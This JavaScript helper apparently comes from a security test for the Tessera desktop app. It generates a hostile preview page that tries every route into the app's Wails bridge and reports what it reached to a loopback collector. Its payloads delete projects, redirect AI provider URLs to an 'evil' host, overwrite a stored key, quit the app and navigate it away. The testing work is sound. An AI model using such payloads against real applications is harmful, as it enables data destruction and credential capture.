// The page a hostile fragment puts in the preview: it tries every route a
// frame could take to drive Tessera and reports what it saw to a loopback
// collector (the test cannot script the real window, so the page speaks).
//
// Routes: Wails' message handler (bound calls: create, delete, settings
// save, key save; runtime calls: events to Go, browser open, window title,
// fullscreen, size, quit), the same from a fresh child frame it makes, the
// app's bridge event dispatched on the parent document, parent/top access,
// postMessage to the app, top navigation, window.open, and framing the
// app's own page.
export function attackPage({ collector, victimId, appOrigins }) {
  const cfg = JSON.stringify({ collector, victimId, appOrigins });
  return `<!doctype html><html><head><meta charset="utf-8"><title>attack</title></head>
<body><h1 id="hello">A friendly page</h1><pre id="log"></pre>
<script>
(async function () {
  const cfg = ${cfg};
  const report = { routes: {}, ua: navigator.userAgent, origin: location.origin };
  const note = (k, v) => { report.routes[k] = v; document.getElementById('log').textContent += k + ': ' + JSON.stringify(v) + '\\n'; };
  const call = (name, args) => 'C' + JSON.stringify({ name, args, callbackID: name + '-' + Math.random() });
  const evil = cfg.collector + '/evil';
  const messages = [
    call('api.ProjectService.Create', [{ name: 'pwned', description: '', template: '' }]),
    call('api.ProjectService.Delete', [cfg.victimId]),
    call('api.SettingsService.Save', [{ e2bDomain: 'evil.example', defaultProvider: 'openai', defaultModel: 'x',
      sandboxTimeoutMinutes: 60, idlePauseMinutes: 10, theme: 'dark', onboarded: true, customTemplates: [],
      customProviders: { providers: [{ id: 'openai', base_url: evil }, { id: 'custom', base_url: evil, models: [{ id: 'fake-model', name: 'x' }] }] } }]),
    call('api.SettingsService.SetKey', [{ account: 'e2b', value: 'stolen' }]),
    'EE' + JSON.stringify({ name: 'app:quit', data: [] }),
    'BO:' + cfg.collector + '/opened',
    'WTpwned',
    'WF',
    'Ws:300:200',
    'Q',
  ];
  const tryHandler = (w, label) => {
    let h;
    try { h = w.webkit && w.webkit.messageHandlers && w.webkit.messageHandlers.external; } catch (e) { note(label, 'threw ' + e.name); return; }
    if (!h) { note(label, 'no handler'); return; }
    let sent = 0;
    for (const m of messages) { try { h.postMessage(m); sent++; } catch (e) { /* keep going */ } }
    note(label, 'handler present, posted ' + sent);
  };

  tryHandler(window, 'handler in the preview');
  note('window.go', typeof window.go);
  note('WailsInvoke', typeof window.WailsInvoke);

  // A frame the page makes itself gets a fresh window (and a fresh webkit object).
  const child = document.createElement('iframe');
  child.srcdoc = '<p>child</p>';
  document.body.appendChild(child);
  await new Promise(r => child.onload = r);
  tryHandler(child.contentWindow, 'handler in a fresh child frame');

  for (const [label, fn] of [
    ['parent.document', () => parent.document.title],
    ['top.go', () => typeof top.go.api],
    ['parent.WailsInvoke', () => { parent.WailsInvoke(messages[0]); return 'called'; }],
    ['bridge event on the app document', () => { parent.document.dispatchEvent(new CustomEvent('tessera:ipc', { detail: messages[0] })); return 'dispatched'; }],
  ]) {
    try { note(label, 'reachable: ' + fn()); } catch (e) { note(label, 'blocked (' + e.name + ')'); }
  }

  for (const target of [parent, top]) {
    for (const m of messages) { try { target.postMessage(m, '*'); } catch (e) { /* ignore */ } }
  }
  note('postMessage to the app', 'sent ' + messages.length * 2);

  try { const w = window.open(cfg.collector + '/popup', '_blank'); note('window.open', w ? 'opened' : 'refused'); } catch (e) { note('window.open', 'blocked (' + e.name + ')'); }

  // Frame the app's own page and try to script it.
  for (const origin of cfg.appOrigins) {
    const f = document.createElement('iframe');
    f.src = origin + '/';
    document.body.appendChild(f);
    await new Promise(r => { f.onload = r; setTimeout(r, 1500); });
    try { note('framed app ' + origin, 'scriptable: ' + typeof f.contentWindow.document.body); } catch (e) { note('framed app ' + origin, 'blocked (' + e.name + ')'); }
    try { tryHandler(f.contentWindow, 'handler in framed app ' + origin); } catch (e) { note('handler in framed app ' + origin, 'blocked'); }
  }

  // Send the report before trying to navigate the app away.
  await fetch(cfg.collector + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) });
  try { top.location = cfg.collector + '/top'; note('top navigation', 'attempted'); } catch (e) { note('top navigation', 'blocked (' + e.name + ')'); }
  await fetch(cfg.collector + '/done', { method: 'POST', mode: 'no-cors', body: '{}' });
})();
</script></body></html>`;
}
